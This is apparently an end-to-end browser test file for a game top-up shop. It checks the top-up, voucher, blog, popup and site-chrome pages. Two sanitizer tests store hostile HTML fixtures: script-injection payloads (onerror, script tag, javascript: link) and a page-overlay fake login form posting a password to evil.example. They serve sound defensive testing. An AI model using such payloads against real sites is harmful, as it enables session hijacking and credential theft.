import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { newBlogPost, refreshEdge } from '../../support/catalog';
import { phone, settled, useBrowser } from '../../support/browser';
import { DeleteCommand } from '@aws-sdk/lib-dynamodb';
import { db, tableName } from '../../../functions/shared/db';

const bengaliQuantityError = 'অনুগ্রহ করে ১ থেকে ১০ এর মধ্যে অর্ডার করুন';

describe('the top-up page', () => {
  const browser = useBrowser();

  it('shows the game, the Player ID Topup link, the delivery estimate and the UID TOPUP form at once, with a link to the other group', async () => {
    const { page, errors } = await browser.open('/category/free-fire');
    await page.getByRole('heading', { name: 'Free Fire', level: 1 }).waitFor();
    expect(await page.locator('.category-hero').getByRole('link', { name: 'Player ID Topup' }).getAttribute('href')).toBe(
      '/player-id-topup',
    );
    await page.getByText('Delivery 5-10min').waitFor();
    await page.getByRole('form', { name: 'UID TOPUP' }).getByText('25 Diamonds', { exact: true }).waitFor();
    const others = page.getByTestId('plan-groups').getByRole('button');
    expect(await others.allTextContents()).toEqual(['ID-Password Topup']);

    await others.filter({ hasText: 'ID-Password Topup' }).click();
    const form = page.getByRole('form', { name: 'ID-Password Topup' });
    await form.waitFor();
    expect(new URL(page.url()).searchParams.get('group')).toBe('ff-id-password');
    expect(await page.getByTestId('plan-groups').getByRole('button').allTextContents()).toEqual(['UID TOPUP']);
    await page
      .getByRole('region', { name: 'More games and gift cards' })
      .locator('.mini-card-name', { hasText: 'PUBG Mobile' })
      .first()
      .waitFor();
    expect(errors).toEqual([]);
  });
});

describe('the voucher page', () => {
  const browser = useBrowser();

  // The stepper's rules are the component tier's (test/component/catalog/voucher-list.test.tsx); here, what only a real page shows.
  it("draws the Bengali quantity error on an English page with the page's Bengali face", async () => {
    const { page } = await browser.open('/voucher/itunes', phone);
    const card = page.locator('.voucher-card', { hasText: 'iTunes $25 (US)' });
    await card.getByRole('button', { name: 'Decrease quantity' }).click();
    await card.getByText(bengaliQuantityError).waitFor();
    // The error is drawn with the page's Bengali face, not as missing-glyph boxes.
    await expect.poll(() => page.evaluate(() => document.fonts.check('400 16px "Noto Sans Bengali"', 'অ'))).toBe(true);
  });
});

describe('the blog', () => {
  const browser = useBrowser();

  it('lists posts as cards and opens an image post and a video post', async () => {
    const { page, errors } = await browser.open('/blogs');
    await page.getByRole('heading', { name: 'Blogs', level: 1 }).waitFor();
    const list = page.getByTestId('blog-list');
    await list.getByRole('link', { name: 'How to top up Free Fire diamonds by player ID' }).click();
    await page.waitForURL('**/blog/how-to-top-up-free-fire');
    await page.getByRole('heading', { name: 'How to top up Free Fire diamonds by player ID' }).waitFor();
    expect(await page.locator('.blog-media img').getAttribute('src')).toBe('/images/blog-topup-guide.svg');
    await page.locator('.blog-content').getByText('Choose UID TOPUP on the Free Fire page.').waitFor();
    await page.getByText('Posted on 2 October 2026').waitFor();

    await page.goto('/blogs');
    const videoCard = page.getByTestId('blog-list').getByRole('link', { name: /what is new in the latest Free Fire update/ });
    await videoCard.click();
    await page.waitForURL('**/blog/ob46-update-video');
    const player = page.locator('.blog-media iframe');
    await player.waitFor();
    const src = new URL((await player.getAttribute('src'))!);
    expect(src.pathname).toBe('/embed/dQw4w9WgXcQ');
    expect(src.searchParams.get('controls')).toBe('0');
    expect(await player.evaluate((element) => element.getBoundingClientRect().height)).toBe(350);
    expect(errors).toEqual([]);
  });

  it('renders stored HTML without running its scripts or event handlers', async () => {
    const id = `xss-${randomBytes(5).toString('hex')}`;
    await newBlogPost({
      id,
      type: 'image',
      image: '/images/blog-account-safety.svg',
      youtubeId: '',
      title: 'Formatting check',
      content:
        '<p>Kept <strong>bold</strong></p><img src="/nothing.png" onerror="window.__injected = \'onerror\'"><script>window.__injected = \'script\'</script><a href="javascript:window.__injected=1">link</a>',
      // An old date keeps this post at the end of the newest-first list that other tests look at.
      createdAt: '2001-01-01T00:00:00.000Z',
    });
    try {
      const { page, errors } = await browser.open(`/blog/${id}`);
      const content = page.locator('.blog-content');
      await content.getByText('bold').waitFor();
      await settled(page);
      expect(await page.evaluate(() => (window as { __injected?: unknown }).__injected)).toBeUndefined();
      await expect.poll(() => content.locator('script').count()).toBe(0);
      await expect.poll(() => content.locator('[onerror]').count()).toBe(0);
      expect(await content.locator('a', { hasText: 'link' }).getAttribute('href')).toBeNull();
      expect(errors).toEqual([]);
    } finally {
      // The post is for this test only; the blog list (and its screenshot) should not keep it.
      await db.send(new DeleteCommand({ TableName: tableName, Key: { pk: `BLOG#${id}`, sk: '#META' } }));
      await refreshEdge('blog');
    }
  });
  it('renders stored HTML that cannot overlay the page: no style sheets, no form controls, no positioning', async () => {
    const id = `overlay-${randomBytes(5).toString('hex')}`;
    await newBlogPost({
      id,
      type: 'image',
      image: '/images/blog-account-safety.svg',
      youtubeId: '',
      title: 'Overlay check',
      content:
        '<style>.site-header{display:none}</style><p style="color: rgb(200, 0, 0); position: fixed; inset: 0; z-index: 9999">Red text</p>' +
        '<div style="position:absolute;top:0;left:0"><form action="https://evil.example"><input name="password"><button>Log in</button></form></div>',
      createdAt: '2001-01-01T00:00:00.000Z',
    });
    try {
      const { page } = await browser.open(`/blog/${id}`);
      const content = page.locator('.blog-content');
      const red = content.getByText('Red text');
      await red.waitFor();
      await expect.poll(() => page.locator('.blog-content style').count()).toBe(0);
      await expect.poll(() => content.locator('form, input, button').count()).toBe(0);
      expect(await red.evaluate((node) => getComputedStyle(node).position)).toBe('static');
      // The shop's CSP (style-src without 'unsafe-inline') applies no style attribute of stored HTML
      // at all; the sanitizer's removal of positioning is the second line of defence.
      expect(await red.evaluate((node) => getComputedStyle(node).color)).not.toBe('rgb(200, 0, 0)');
      await expect.poll(() => content.locator('div[style]').count()).toBe(0);
      await page.locator('.site-header').first().waitFor();
    } finally {
      await db.send(new DeleteCommand({ TableName: tableName, Key: { pk: `BLOG#${id}`, sk: '#META' } }));
      await refreshEdge('blog');
    }
  });
});

describe('popups', () => {
  const browser = useBrowser();

  it('shows the popup whose status is "1" with its image and text, not the one with "0", and keeps it closed after closing', async () => {
    const { page } = await browser.open('/', phone, { showPopups: true });
    const dialog = page.getByRole('dialog', { name: 'Announcement' });
    await dialog.getByText('5% extra diamonds on every UID top-up until Sunday.').waitFor();
    expect(await dialog.locator('img.popup-image').getAttribute('src')).toBe('/images/popup-offer.svg');
    await dialog.getByRole('button', { name: 'Close' }).click();
    await dialog.waitFor({ state: 'detached' });
    await page.waitForTimeout(300);
    await expect.poll(() => page.getByRole('dialog').count()).toBe(0);
    await expect.poll(() => page.getByText('Get our app for faster top-ups').count()).toBe(0);

    await page.reload();
    await page.getByTestId('category-grid').waitFor();
    await page.waitForTimeout(500);
    await expect.poll(() => page.getByRole('dialog').count()).toBe(0);
  });
});

describe('the site chrome', () => {
  const browser = useBrowser();

  it('takes the header strip and footer links from the site settings', async () => {
    const { page } = await browser.open('/');
    const strip = page.locator('.header-strip');
    expect(await strip.getByRole('link', { name: 'Messenger' }).getAttribute('href')).toBe('https://m.me/topupbazar');
    expect(await strip.getByRole('link', { name: 'Get the app' }).getAttribute('href')).toBe(
      'https://play.google.com/store/apps/details?id=bd.topupbazar',
    );
    const footer = page.getByRole('contentinfo');
    await footer.getByText('+880 1700-000000').waitFor();
    await footer.getByText('9AM - 11PM').waitFor();
    await footer.getByRole('navigation', { name: 'Social' }).getByRole('link').first().waitFor();
    expect(await footer.getByRole('navigation', { name: 'Social' }).getByRole('link').allTextContents()).toEqual([
      'Facebook',
      'YouTube',
      'Telegram',
    ]);
    expect(await footer.getByRole('link', { name: 'Terms and conditions' }).getAttribute('href')).toBe('/terms-and-condition');
    await footer.getByText('© 2024').waitFor();
  });
});
